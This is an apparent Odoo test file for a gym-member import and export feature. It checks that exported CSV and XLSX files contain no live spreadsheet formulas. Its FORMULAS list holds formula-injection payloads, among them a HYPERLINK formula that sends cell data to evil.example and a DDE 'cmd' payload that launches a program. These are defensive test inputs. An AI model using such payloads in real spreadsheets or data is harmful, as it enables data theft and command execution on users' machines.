import csv
import io
import json

import openpyxl

from odoo.http import Request
from odoo.tests import HttpCase, tagged

from .import_common import ImportCommon

FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1)', "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)", "＝1+1")
HEADER = "Nombre,Celular,Calle,Colonia,Ciudad,Contacto de emergencia,Parentesco,Etiquetas,Notas"
FIELDS = ("name", "street", "street2", "city", "emergency_name", "emergency_relation", "category_id/name", "comment")


@tagged("post_install", "-at_install")
class TestGymMemberImportExport(ImportCommon, HttpCase):
    """What a file brings in beside the names may begin like a formula, and is text wherever it goes out again."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        if not cls.env["ir.module.module"].search_count([("name", "=", "vigor_guard"), ("state", "=", "installed")]):
            cls.skipTest(cls, "exports are guarded by vigor_guard, which is not installed here")

    def setUp(self):
        super().setUp()
        stream = io.StringIO()
        rows = [[f"Ana {n} Ruiz", f"551234567{n}", *[text] * 7] for n, text in enumerate(FORMULAS)]
        csv.writer(stream).writerows(rows)
        self.job = self._run(self._check(stream.getvalue(), HEADER))
        self.brought_in = self.job.line_ids.member_id
        self.owner.group_ids |= self.env.ref("base.group_allow_export")
        self.authenticate(self.owner.login, self.owner.login)

    def _export(self, kind, records, names):
        data = {
            "model": records._name,
            "fields": [{"name": name, "label": name, "type": "char"} for name in names],
            "ids": records.ids,
            "domain": [],
            "import_compat": False,
        }
        form = {"data": json.dumps(data), "csrf_token": Request.csrf_token(self)}
        answer = self.url_open(f"/web/export/{kind}", data=form)
        self.assertEqual(answer.status_code, 200)
        return answer.content

    def _assert_no_formula_in_book(self, content):
        for sheet in openpyxl.load_workbook(io.BytesIO(content)).worksheets:
            for cell in (cell for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)):
                self.assertEqual((cell.data_type, cell.hyperlink), ("s", None), cell.value)

    def _assert_no_formula_in_csv(self, text):
        for row in csv.reader(io.StringIO(text)):
            for cell in row:
                self.assertNotIn(cell.lstrip()[:1], ("=", "+", "-", "@", "＝"), cell)

    def test_the_texts_are_kept_as_they_were_written(self):
        self.assertEqual(self.brought_in.mapped("street"), list(FORMULAS))
        self.assertEqual(self.brought_in.mapped("emergency_name"), list(FORMULAS))

    def test_no_export_of_members_has_a_formula(self):
        self._assert_no_formula_in_book(self._export("xlsx", self.brought_in, FIELDS))
        self._assert_no_formula_in_csv(self._export("csv", self.brought_in, FIELDS).decode())

    def test_no_export_of_the_rows_has_a_formula(self):
        names = ("name", "messages", "changes_text")
        self._assert_no_formula_in_book(self._export("xlsx", self.job.line_ids, names))
        self._assert_no_formula_in_csv(self._export("csv", self.job.line_ids, names).decode())
